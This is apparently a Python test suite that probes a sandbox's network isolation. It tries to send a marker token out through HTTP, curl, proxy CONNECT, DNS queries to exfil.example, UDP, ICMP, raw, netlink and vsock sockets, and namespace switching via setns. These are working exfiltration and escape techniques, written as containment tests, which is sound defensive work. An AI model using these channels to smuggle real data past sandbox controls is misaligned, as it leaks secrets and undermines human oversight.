"""Getting a secret out: every kind of socket, and names as messages."""

import os
import socket
import struct
import subprocess
import urllib.request

from attack import MARK, WORLD, got, sent, syscall

THERE = WORLD.elsewhere


def test_http():
    token = f"{MARK}-http"
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
        f"http://{THERE}:{WORLD.web_port}/{token}", timeout=3
    ) as answer:
        answer.read()
    return sent(token)


def test_http_as_configured():
    """With whatever proxy the environment names."""
    token = f"{MARK}-proxied"
    with urllib.request.urlopen(f"http://{THERE}:{WORLD.web_port}/{token}", timeout=3) as answer:
        answer.read()
    return sent(token)


def test_http_by_curl():
    token = f"{MARK}-curl"
    subprocess.run(
        ["curl", "-s", "-m", "3", "--noproxy", "*", f"http://{THERE}:{WORLD.web_port}/{token}"],
        capture_output=True, check=False, timeout=20,
    )  # fmt: skip
    return sent(token)


def test_connect_through_the_proxy():
    """CONNECT to a host that nobody permitted."""
    token = f"{MARK}-connect"
    with socket.create_connection(("127.0.0.1", 8118), timeout=3) as proxy:
        proxy.sendall(f"CONNECT {THERE}:{WORLD.web_port} HTTP/1.1\r\nHost: {THERE}:{WORLD.web_port}\r\n\r\n".encode())
        proxy.recv(4096)
        proxy.sendall(f"GET /{token} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        proxy.recv(4096)
    return sent(token)


def test_loopback_through_the_proxy():
    token = f"{MARK}-inner"
    with socket.create_connection(("127.0.0.1", 8118), timeout=3) as proxy:
        target = f"127.0.0.1:{WORLD.plain_port}"
        proxy.sendall(f"GET http://{target}/{token} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        proxy.recv(4096)
    return sent(token)


def test_dns():
    """The secret as a name: whoever answers for it reads it."""
    token = f"{MARK}-dns".lower()
    try:
        socket.getaddrinfo(f"{token}.exfil.example", 80)
    except socket.gaierror:
        pass
    return sent(token)


def test_dns_by_hand():
    token = f"{MARK}-udp53".lower()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        query.sendto(
            b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(token)]) + token.encode() + b"\0\0\1\0\1", ("127.0.0.1", 53)
        )
    return sent(token)


def test_udp():
    token = f"{MARK}-udp"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(token.encode(), (THERE, WORLD.udp_port))
    return sent(token)


def test_udp_connected():
    token = f"{MARK}-udpc"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect((THERE, WORLD.udp_port))
        out.send(token.encode())
    return sent(token)


def test_udp_lite():
    """Another protocol number for the same thing."""
    token = f"{MARK}-lite"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as out:
        out.sendto(token.encode(), (THERE, WORLD.lite_port))
    return sent(token)


def test_ipv6():
    token = f"{MARK}-six"
    with socket.socket(socket.AF_INET6) as out:
        out.settimeout(3)
        out.connect(("::1", WORLD.plain_port))
        out.sendall(f"{token}\n".encode())
    return sent(token)


def test_loopback_port_of_another():
    """A database or a development server of the user."""
    token = f"{MARK}-plain"
    with socket.create_connection(("127.0.0.1", WORLD.plain_port), timeout=3) as out:
        out.sendall(f"{token}\n".encode())
    return sent(token)


def test_multipath_tcp():
    token = f"{MARK}-mptcp"
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as out:
        out.settimeout(3)
        out.connect((THERE, WORLD.web_port))
        out.sendall(f"GET /{token} HTTP/1.0\r\n\r\n".encode())
    return sent(token)


def test_fast_open():
    token = f"{MARK}-tfo"
    with socket.socket() as out:
        out.sendto(f"GET /{token} HTTP/1.0\r\n\r\n".encode(), socket.MSG_FASTOPEN, (THERE, WORLD.web_port))
    return sent(token)


def test_ping():
    """ICMP: a message in the payload of an echo."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
        out.settimeout(3)
        out.sendto(b"\x08\0\0\0\0\1\0\1" + MARK.encode(), (THERE, 0))
        return got("an echo came back") if MARK.encode() in out.recv(512) else None


def test_raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as out:
        out.sendto(MARK.encode(), (THERE, 0))
    return got("a packet of our own protocol left")


def test_packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) as listening:
        listening.bind(("lo", 0))
        names = socket.if_nameindex()
    return got(f"hears everything on {names}") if has_peers() else None


def test_vsock():
    """To whoever runs this machine as a guest. Only asked for, never used."""
    socket.socket(40, socket.SOCK_STREAM).close()
    return got("there is such a socket")


def test_netlink():
    """Routes and addresses: give ourselves a way out."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.settimeout(2)
        link.bind((0, 0))
        address = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack(
            "HH4s", 8, 2, socket.inet_aton("203.0.113.99")
        )
        link.send(struct.pack("IHHII", 16 + len(address), 20, 0x605, 1, 0) + address)
        answer = link.recv(4096)
    code = struct.unpack_from("i", answer, 16)[0]
    return got("an address was added") if code == 0 and has_peers() else None


def test_other_families():
    """Socket families nobody needs here: each is a door of its own."""
    opened = []
    for family, kind in ((38, 5), (29, 3), (31, 3), (26, 2), (15, 3), (44, 3), (41, 2), (21, 2), (30, 2)):
        try:
            socket.socket(family, kind).close()
            opened.append(family)
        except OSError:
            continue
    return got(f"families {opened}") if opened else None


def test_network_of_another():
    """setns into the network namespace of whoever can be seen."""
    mine = os.readlink("/proc/self/ns/net")
    for entry in os.listdir("/proc"):
        path = f"/proc/{entry}/ns/net"
        try:
            if not entry.isdigit() or os.readlink(path) == mine:
                continue
            syscall("setns", os.open(path, os.O_RDONLY), 0x40000000)
        except OSError:
            continue
        return got("in another network")
    return None


def has_peers():
    """Whether this is the network in which the driver listens."""
    try:
        with socket.create_connection((THERE, WORLD.web_port), timeout=1):
            return True
    except OSError:
        return False
